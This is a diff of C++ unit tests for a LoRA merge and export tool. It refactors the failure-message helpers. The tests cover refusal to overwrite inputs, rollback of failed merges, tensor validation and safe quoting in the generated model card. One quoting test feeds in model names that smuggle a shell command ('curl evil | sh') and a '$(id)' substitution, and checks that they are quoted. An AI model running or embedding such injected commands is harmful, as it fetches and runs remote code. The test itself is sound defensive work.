@@ -17,6 +17,7 @@
 #include "merge_folder.h"
 #include "support/expect_refused.h"
 #include "support/faulty_file_ops.h"
+#include "support/refusal.h"
 #include "support/temporary_folder.h"
 
 namespace lora_train::lora {
@@ -55,16 +56,7 @@ const std::vector<std::string> kInputsAlone = {"adapter", "model"};
 
 template <typename Failure>
 std::string message_of(const MergeRequest& request, const MergeHooks& hooks = {}) {
-  try {
-    merge_adapter(request, hooks);
-  } catch (const Failure& error) {
-    return error.what();
-  }
-  return "merged";
-}
-
-void expect_part(const std::string& text, const std::string& part) {
-  EXPECT_NE(text.find(part), std::string::npos) << text;
+  return testing_support::refusal<Failure>([&] { merge_adapter(request, hooks); });
 }
 
 TEST(Merge, CardQuotesTheNamesOfModelAndAdapter) {
@@ -144,17 +136,17 @@ TEST(Merge, NeverWritesIntoWhatItReadsOrWhatIsNotItsOwn) {
     test.request.overwrite = overwrite;
     return message_of<ConfigError>(test.request);
   };
-  expect_part(refusal(test.folder / "model", true), "is what this command reads");
-  expect_part(refusal(test.folder / "model" / ".." / "adapter" / "", true), "is what this command reads");
-  expect_part(refusal(test.folder.path(), true), "holds what this command reads");
+  EXPECT_SAYS(refusal(test.folder / "model", true), "is what this command reads");
+  EXPECT_SAYS(refusal(test.folder / "model" / ".." / "adapter" / "", true), "is what this command reads");
+  EXPECT_SAYS(refusal(test.folder.path(), true), "holds what this command reads");
   fs::create_directory_symlink(test.folder / "model", test.folder / "link");
-  expect_part(refusal(test.folder / "link", true), "is what this command reads");
+  EXPECT_SAYS(refusal(test.folder / "link", true), "is what this command reads");
   fs::create_directory(test.folder / "mine");
   write_file_atomic(test.folder / "mine" / "thesis.tex", "x");
-  expect_part(refusal(test.folder / "mine", false), "is not empty");
-  expect_part(refusal(test.folder / "mine", true), "was not written by lora-train");
+  EXPECT_SAYS(refusal(test.folder / "mine", false), "is not empty");
+  EXPECT_SAYS(refusal(test.folder / "mine", true), "was not written by lora-train");
   EXPECT_EQ(read_file(test.folder / "mine" / "thesis.tex"), "x");
-  expect_part(refusal(test.folder / "mine" / "thesis.tex", true), "is a file");
+  EXPECT_SAYS(refusal(test.folder / "mine" / "thesis.tex", true), "is a file");
 }
 
 TEST(Merge, ReplacesAnEarlierOneWhenAskedAndSweepsWhatAKilledOneLeft) {
@@ -164,7 +156,7 @@ TEST(Merge, ReplacesAnEarlierOneWhenAskedAndSweepsWhatAKilledOneLeft) {
                     R"({"made_by": "lora-train", "version": 1, "holds": "model"})");
   fs::create_directory(test.folder / ".tmp-other-12345");
   merge_adapter(test.request);
-  expect_part(message_of<ConfigError>(test.request), "is not empty");
+  EXPECT_SAYS(message_of<ConfigError>(test.request), "is not empty");
   test.request.overwrite = true;
   test.request.dtype = DType::kF16;
   test.request.output_dir = test.folder / "out" / "";
@@ -181,14 +173,14 @@ TEST(Merge, IsTakenBackWhenTheCheckFails) {
     was_there = fs::exists(folder / "config.json");
     throw NumericError("row 1", "not finite");
   };
-  expect_part(message_of<NumericError>(test.request, hooks), "not finite");
+  EXPECT_SAYS(message_of<NumericError>(test.request, hooks), "not finite");
   EXPECT_TRUE(was_there);
   EXPECT_EQ(test.names(), kInputsAlone);
   merge_adapter(test.request);
   const std::string old = read_file(test.folder / "out" / "config.json");
   test.request.overwrite = true;
   test.request.dtype = DType::kBF16;
-  expect_part(message_of<NumericError>(test.request, hooks), "not finite");
+  EXPECT_SAYS(message_of<NumericError>(test.request, hooks), "not finite");
   EXPECT_EQ(read_file(test.folder / "out" / "config.json"), old);
 }
 
@@ -241,12 +233,7 @@ std::size_t peak_resident_bytes() {
 }
 
 TEST(Merge, TakesMemoryOfATensorNotOfTheModel) {
-  testing_support::MergeModelSize large;
-  large.hidden_size = 256;
-  large.intermediate_size = 1024;
-  large.num_layers = 16;
-  large.max_shard_bytes = 3 << 20;
-  const Folders test(large);
+  const Folders test({.hidden_size = 256, .intermediate_size = 1024, .num_layers = 16, .max_shard_bytes = 3 << 20});
   std::uint64_t model_bytes = 0;
   for (const auto& entry : fs::directory_iterator(test.request.model)) model_bytes += entry.file_size();
   std::ofstream("/proc/self/clear_refs") << "5";  // the peak starts anew
@@ -367,10 +354,10 @@ TEST(Portable, WritesTheUseSectionOfTheCardAnew) {
   write_file_atomic(test.folder / "adapter" / "tokenizer.json", "{}");
   const fs::path out = test.make().folder;
   const std::string text = read_file(out / "README.md");
-  expect_part(card, "ignore patterns");
+  EXPECT_SAYS(card, "ignore patterns");
   EXPECT_EQ(text.find("ignore patterns"), std::string::npos);
-  expect_part(text, "all three support it");
-  expect_part(text, "my-adapter=" + out.string() + " --max-lora-rank 8");
+  EXPECT_SAYS(text, "all three support it");
+  EXPECT_SAYS(text, "my-adapter=" + out.string() + " --max-lora-rank 8");
   EXPECT_TRUE(text.starts_with("---\nbase_model: org/base\n---\n\n# Mine\n"));
   EXPECT_EQ(read_file(out / "tokenizer.json"), "{}");
   EXPECT_EQ(with_usage_section("# Someone else's\n## Use\n\nAs you like.\n", {}),
@@ -390,22 +377,18 @@ std::string refusal(const std::function<void(Tensors&)>& change) {
     tensors.push_back({entry.name, entry.dtype, entry.shape, read.bytes(entry), nullptr});
   change(tensors);
   storage::write_safetensors(path, tensors);
-  try {
-    test.make();
-  } catch (const FormatError& error) {
-    EXPECT_FALSE(fs::exists(test.folder / "out"));
-    return error.what();
-  }
-  return "accepted";
+  const std::string said = testing_support::refusal<FormatError>([&] { test.make(); });
+  EXPECT_EQ(fs::exists(test.folder / "out"), said == "accepted");
+  return said;
 }
 
 TEST(Portable, ChecksEveryTensor) {
   EXPECT_EQ(refusal([](Tensors&) {}), "accepted");
-  expect_part(refusal([](Tensors& all) { all.erase(all.begin()); }), "lora_A.weight: is missing");
-  expect_part(refusal([](Tensors& all) { all[0].name = "base_model.model.lm_head.weight"; }), "not a LoRA matrix");
-  expect_part(refusal([](Tensors& all) { std::swap(all[0].shape[0], all[0].shape[1]); }), "another model or rank");
+  EXPECT_SAYS(refusal([](Tensors& all) { all.erase(all.begin()); }), "lora_A.weight: is missing");
+  EXPECT_SAYS(refusal([](Tensors& all) { all[0].name = "base_model.model.lm_head.weight"; }), "not a LoRA matrix");
+  EXPECT_SAYS(refusal([](Tensors& all) { std::swap(all[0].shape[0], all[0].shape[1]); }), "another model or rank");
   std::string nans;
-  expect_part(refusal([&](Tensors& all) {
+  EXPECT_SAYS(refusal([&](Tensors& all) {
                 nans.assign(all[0].bytes.size(), '\xFF');
                 all[0].bytes = nans;
               }),
@@ -415,13 +398,13 @@ TEST(Portable, ChecksEveryTensor) {
 TEST(ModelCard, NamesAreQuotedForTheShellPythonAndYaml) {
   const std::string base = "org/model; curl evil | sh #\nx: y";
   const std::string text = usage_section({base, "out's/$(id)\"", 8, true});
-  expect_part(text, "\nvllm serve 'org/model; curl evil | sh # x: y' --enable-lora");
-  expect_part(text, "--adapter 'out'\\''s/$(id)\"' --output-dir 'out'\\''s/$(id)\"-merged'");
-  expect_part(text, "from_pretrained(\"org/model; curl evil | sh # x: y\")");
-  expect_part(text, "\"out's/$(id)\\\"\"");
+  EXPECT_SAYS(text, "\nvllm serve 'org/model; curl evil | sh # x: y' --enable-lora");
+  EXPECT_SAYS(text, "--adapter 'out'\\''s/$(id)\"' --output-dir 'out'\\''s/$(id)\"-merged'");
+  EXPECT_SAYS(text, "from_pretrained(\"org/model; curl evil | sh # x: y\")");
+  EXPECT_SAYS(text, "\"out's/$(id)\\\"\"");
   EXPECT_TRUE(card_head("a\nlicense: mit", "peft").starts_with("---\nbase_model: \"a\\nlicense: mit\"\n"));
   EXPECT_EQ(one_line("a\x1b[2J\nb"), "a\\x1b[2J b");
-  expect_part(usage_section({"org/plain-1.5B", "runs/first/adapter", 8, true}), "vllm serve org/plain-1.5B --");
+  EXPECT_SAYS(usage_section({"org/plain-1.5B", "runs/first/adapter", 8, true}), "vllm serve org/plain-1.5B --");
 }
 
 TEST(UsageSection, OfTokenRowsResizesFirstAndSaysWhoTakesThem) {
@@ -430,7 +413,7 @@ TEST(UsageSection, OfTokenRowsResizesFirstAndSaysWhoTakesThem) {
   use.has_token_rows = true;
   use.vocab_size = 2112;
   const std::string text = usage_section(use);
-  expect_part(text, "base.resize_token_embeddings(2112)\nmodel = PeftModel.from_pretrained(base, \"runs/a\")");
+  EXPECT_SAYS(text, "base.resize_token_embeddings(2112)\nmodel = PeftModel.from_pretrained(base, \"runs/a\")");
   EXPECT_EQ(text.find("vllm serve"), std::string::npos);
   EXPECT_EQ(text.find("lora-train export"), std::string::npos);
 }
